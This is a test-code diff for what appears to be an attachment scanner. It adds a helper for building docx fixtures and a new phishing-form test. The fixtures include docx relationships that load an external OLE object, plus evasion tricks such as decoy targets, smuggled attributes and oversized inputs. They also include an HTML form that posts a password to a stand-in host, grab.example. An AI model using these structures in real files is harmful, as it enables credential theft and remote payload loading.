@@ -4083,6 +4083,15 @@ mod tests {
         assert!(r.get("attach.protocol_handler").is_some(), "{r:?}");
     }
 
+    /// What a docx whose `word/_rels/document.xml.rels` part is `rels`
+    /// gives.
+    fn with_doc_rels(rels: &[u8]) -> Report {
+        inspect(&att(
+            "offer.docx",
+            &docx(&[m("word/_rels/document.xml.rels", rels)]),
+        ))
+    }
+
     /// A relationship's attributes are read as XML reads them: a value may
     /// hold `>` and what looks like another attribute, and neither hides
     /// the real one.
@@ -4123,10 +4132,7 @@ mod tests {
             format!("<Relationship Type=\"{OLE}\n\" Target=\"https://e.example/o.bin\" TargetMode=\"External\"/>"),
         ] {
             let rels = format!("<Relationships>{rel}</Relationships>");
-            let r = inspect(&att(
-                "offer.docx",
-                &docx(&[m("word/_rels/document.xml.rels", rels.as_bytes())]),
-            ));
+            let r = with_doc_rels(rels.as_bytes());
             let e = r.get("attach.external_object").expect(&rel);
             assert!(e.words.contains("https://e.example/o.bin"), "{}", e.words);
             // Read as an oleObject (7), not an unknown type (5).
@@ -4147,28 +4153,19 @@ mod tests {
             .flat_map(|u| u.to_be_bytes())
             .collect();
         for part in [[&[0xFF, 0xFE][..], &le].concat(), le.clone(), be, be_late] {
-            let r = inspect(&att(
-                "offer.docx",
-                &docx(&[m("word/_rels/document.xml.rels", &part)]),
-            ));
+            let r = with_doc_rels(&part);
             assert!(r.get("attach.external_object").is_some(), "{r:?}");
         }
         // Hostile sizes, in linear time: a megabyte of `<`, and one element
         // repeating its Target 100,000 times (a few judged, and it says so).
         let many = "<".repeat(1 << 20);
-        let r = inspect(&att(
-            "offer.docx",
-            &docx(&[m("word/_rels/document.xml.rels", many.as_bytes())]),
-        ));
+        let r = with_doc_rels(many.as_bytes());
         assert!(r.get("attach.external_object").is_none());
         let targets: String = (0..100_000)
             .map(|k| format!(" Target=\"https://e{k}.example/\""))
             .collect();
         let rels = format!("<Relationships><Relationship Type=\"{OLE}\"{targets} TargetMode=\"External\"/></Relationships>");
-        let r = inspect(&att(
-            "offer.docx",
-            &docx(&[m("word/_rels/document.xml.rels", rels.as_bytes())]),
-        ));
+        let r = with_doc_rels(rels.as_bytes());
         assert!(r.get("attach.external_object").is_some(), "{r:?}");
         assert!(r.get("attach.unchecked").is_some(), "{r:?}");
         // Local decoys first do not push the target leading off the machine
@@ -4177,10 +4174,7 @@ mod tests {
             .map(|k| format!(" Target=\"media/{k}.png\""))
             .collect();
         let rels = format!("<Relationships><Relationship Type=\"{OLE}\"{decoys} Target=\"https://e.example/o.bin\" TargetMode=\"External\"/></Relationships>");
-        let r = inspect(&att(
-            "offer.docx",
-            &docx(&[m("word/_rels/document.xml.rels", rels.as_bytes())]),
-        ));
+        let r = with_doc_rels(rels.as_bytes());
         let e = r.get("attach.external_object").expect("the remote target");
         assert!(e.words.contains("https://e.example/o.bin"), "{}", e.words);
         // No attributes at all: nothing, and no panic.
@@ -4193,10 +4187,7 @@ mod tests {
             "<?",
         ] {
             let rels = format!("<Relationships>{rel}");
-            let r = inspect(&att(
-                "offer.docx",
-                &docx(&[m("word/_rels/document.xml.rels", rels.as_bytes())]),
-            ));
+            let r = with_doc_rels(rels.as_bytes());
             assert!(r.get("attach.external_object").is_none(), "{rel}");
         }
     }
@@ -4430,6 +4421,13 @@ mod tests {
             "{}",
             e.words
         );
+        // A form inside an anchor is read, as a browser shows it.
+        let inside = b"<html><a href=\"#\"><form method=post action=\"https://grab.example/p\"><input type=password name=p></form></a></html>";
+        let r = inspect(&att("login.html", inside));
+        let e = r
+            .get("attach.html_form_external")
+            .expect("the form in the anchor");
+        assert!(e.words.contains("grab.example"), "{}", e.words);
     }
 
     #[test]
